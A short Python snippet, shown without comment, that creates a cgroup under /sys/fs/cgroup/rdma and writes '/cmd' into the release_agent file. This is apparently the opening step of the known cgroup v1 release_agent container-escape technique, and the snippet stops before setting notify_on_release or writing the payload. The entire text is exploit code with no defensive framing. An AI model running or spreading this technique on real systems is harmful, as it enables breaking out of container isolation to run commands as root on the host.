import os
os.makedirs("/sys/fs/cgroup/rdma/x", exist_ok=True)
with open("/sys/fs/cgroup/rdma/release_agent", "w") as handle:
    handle.write("/cmd")
